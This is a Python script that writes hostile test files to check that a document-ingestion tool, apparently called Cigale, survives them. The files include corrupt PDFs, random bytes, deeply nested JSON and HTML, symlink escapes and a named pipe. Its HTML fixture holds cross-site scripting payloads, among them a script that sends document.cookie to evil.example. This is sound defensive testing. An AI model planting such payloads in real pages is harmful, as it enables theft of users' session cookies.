#!/usr/bin/env python3
"""Write a small corpus of hostile files, to check that ingesting them never crashes Cigale.

Each case says what ingesting the folder should give for it: "ok" (its documents are stored),
"error" (exactly one SourceError naming it, nothing stored) or "partial" (the good records are
stored, each bad one gets a SourceError). Every file is under 1 MB, the corpus about 2 MB, and
the bytes are the same on every run (seeded randomness, no clock).

Besides the folder, one file is written next to it, in `<folder>-outside/`: the target of the
symbolic links that point outside the folder, whose words must never become searchable.

Usage:  python scripts/hostile_files.py OUTDIR
"""

import json
import os
import random
import sys
from dataclasses import dataclass
from enum import StrEnum
from pathlib import Path


class Expect(StrEnum):
    OK = "ok"
    ERROR = "error"
    PARTIAL = "partial"


@dataclass(frozen=True)
class Case:
    name: str  # the file's path inside the folder
    expect: Expect
    reason: str = ""  # words that the reason of its SourceError holds (error, partial)
    word: str = ""  # a word only this file's documents hold: searchable after the ingest
    hidden: str = ""  # a word the file holds that must never become searchable


def generate(folder) -> list[Case]:
    """Write the corpus into `folder` (created if needed) and return what each file should give."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    cases = []

    def write(case: Case, data: bytes | str):
        path = folder / case.name
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        cases.append(case)

    # Genuinely good files, so that the hostile ones are seen not to spoil the batch.
    write(Case("good.md", Expect.OK, word="zqxmarkdown"),
          "---\ntitle: Le sentier du littoral\n---\n# Sentier\n\nLe **sentier** zqxmarkdown longe la côte, "
          "voir [la carte](https://example.org/carte_(ouest)).\n")
    write(Case("good.txt", Expect.OK, word="zqxtexte"), "Navette\nLa navette zqxtexte relie Aubagne et Cassis.\n")
    write(Case("good.jsonl", Expect.OK, word="zqxjsonl"),
          "".join(json.dumps({"id": f"hostile-good-{i}", "title": f"Fiche {i}", "text": f"Fiche {i} zqxjsonl."})
                  + "\n" for i in range(2)))
    good_pdf = minimal_pdf(["Horaires de la gare zqxpdf, ouverte de 6 h a 21 h."])
    write(Case("good.pdf", Expect.OK, word="zqxpdf"), good_pdf)
    write(Case("latin1.txt", Expect.OK, word="zqxlatin"),
          "Fête de la Saint-Éloi zqxlatin à Gémenos : café, été, crème brûlée.\n".encode("latin-1"))
    write(Case("utf16-bom.txt", Expect.OK, word="zqxseize"),
          "Le marché zqxseize de Trets, le vendredi.\n".encode("utf-16"))
    write(Case("script.html", Expect.OK, word="zqxarticle", hidden="zqxscript"), _script_page())
    write(Case("huge-attribute.html", Expect.OK, word="zqxattribut"),
          f'<html><head><title>Attribut</title></head><body><article><p title="{"x" * 500_000}">'
          f"{_paragraph('zqxattribut')}</p></article></body></html>")
    write(Case("brackets.md", Expect.OK, word="zqxcrochets"),
          "# Crochets\n\nLe texte zqxcrochets.\n\n" + "[" * 100_000 + "[a](" * 25_000 + "\n")
    # Over the csv module's default field limit (128 KB), under Cigale's (the file size cap).
    write(Case("big-field.csv", Expect.OK, word="zqxchamp"),
          'title,text\nChamp long,"' + "Le sentier zqxchamp longe la côte. " * 6_000 + '"\n')

    # Damaged or disguised content.
    write(Case("truncated.pdf", Expect.ERROR, "PDF", hidden="zqxtronque"),
          minimal_pdf(["Document zqxtronque."])[:300])
    rng = random.Random(2026)
    for ext in ("pdf", "md", "txt", "html", "jsonl", "csv"):
        data = rng.randbytes(4096)
        if ext in ("md", "txt"):
            # Without NUL and the 5 bytes Windows-1252 leaves undefined, random bytes decode as that code page.
            data = bytes(b for b in data if b not in b"\x00\x81\x8d\x8f\x90\x9d")
        reason = "not a PDF file" if ext == "pdf" else "binary content"
        write(Case(f"random.{ext}", Expect.ERROR, reason), data)
        write(Case(f"empty.{ext}", Expect.ERROR, "empty file"), b"")
    write(Case("nul.txt", Expect.ERROR, "binary content", hidden="zqxnul"),
          b"Texte zqxnul\x00\x00 coupe\x00 au milieu\n")
    write(Case("utf16-nobom.txt", Expect.ERROR, "byte-order mark", hidden="zqxsansbom"),
          "Le texte zqxsansbom sans marque.\n".encode("utf-16-le"))

    # Structures that exhaust a parser: recursion, backtracking, depth limits.
    write(Case("nested.jsonl", Expect.ERROR, "nested too deeply"), "[" * 100_000 + "\n")
    deep = json.dumps({"id": "hostile-deep", "title": "Profond", "text": "Texte zqxprofond."})
    write(Case("deep-record.jsonl", Expect.ERROR, "nested too deeply", hidden="zqxprofond"),
          deep[:-1] + ', "extra": ' + "[" * 500 + "]" * 500 + "}\n")
    write(Case("nested.html", Expect.ERROR, "nested too deeply", hidden="zqxniche"),
          "<html><body>" + "<div>" * 100_000 + _paragraph("zqxniche") + "</body></html>")
    write(Case("mixed.jsonl", Expect.PARTIAL, "invalid JSON", word="zqxmixte"),
          json.dumps({"id": "hostile-mixed", "title": "Mixte", "text": "Bonne ligne zqxmixte."}) + "\n{pas du json\n")
    write(Case("ragged.csv", Expect.PARTIAL, "the header has 2", word="zqxbancal"),
          "title,text\nBonne,Ligne zqxbancal.\nMauvaise,Ligne,en,trop\n")

    # Things that are not plain files inside the folder.
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.md").write_text("# Secret\n\nLe mot zqxsecret ne doit pas sortir.\n", encoding="utf-8")
    for name, target in (("loop.md", "loop.md"), ("outside.md", outside / "secret.md"),
                         ("outside-folder", outside)):
        reason = "symbolic link loop" if name == "loop.md" else "points outside the ingested folder"
        link = folder / name
        if link.is_symlink():
            link.unlink()
        link.symlink_to(target)
        cases.append(Case(name, Expect.ERROR, reason, hidden="" if name == "loop.md" else "zqxsecret"))
    if hasattr(os, "mkfifo"):  # reading a named pipe waits forever for a writer
        fifo = folder / "fifo.txt"
        if not fifo.exists():
            os.mkfifo(fifo)
        cases.append(Case("fifo.txt", Expect.ERROR, "not a regular file"))
    return cases


def _paragraph(word: str) -> str:
    return (f"<p>Les calanques {word} se découvrent à pied depuis le port de Cassis. Le sentier balisé longe "
            "la côte et offre des vues sur les falaises calcaires, les criques et la mer.</p>")


def _script_page() -> str:
    """A page whose article is surrounded by every place a script can hide."""
    script = "<script>document.write('zqxscript'); fetch('https://evil.example/?c=' + document.cookie)</script>"
    return (
        "<!DOCTYPE html><html><head><title>Calanques</title>" + script * 20
        + "<style>body{background:url(javascript:alert('zqxscript'))}</style></head><body>"
        + '<img src=x onerror="alert(\'zqxscript\')"><a href="javascript:alert(1)">lien</a>'
        + "<iframe srcdoc=\"<script>alert('zqxscript')</script>\"></iframe>"
        + "<svg><script>alert('zqxscript')</script></svg><noscript>zqxscript</noscript>"
        + "<article><h1>Les calanques</h1>" + _paragraph("zqxarticle") * 3 + "</article>"
        + script * 20 + "<script>/*</script><p>" + "</body></html>"
    )


def minimal_pdf(lines, title=None) -> bytes:
    """A one-page PDF 1.4 written by hand: Helvetica text, a correct xref table, an optional /Info title."""
    ops = ["BT", "/F1 12 Tf", "14 TL", "72 720 Td"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"({escaped}) Tj T*")
    ops.append("ET")
    stream = "\n".join(ops).encode("cp1252")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    if title:
        objects.append(b"<< /Title (%s) >>" % title.encode("cp1252"))
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    info = b" /Info %d 0 R" % len(objects) if title else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, info, xref)
    return bytes(out)


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__.rsplit("Usage:", 1)[1].strip())
    for case in generate(sys.argv[1]):
        print(f"{case.expect:8} {case.name:22} {case.reason}")


if __name__ == "__main__":
    main()
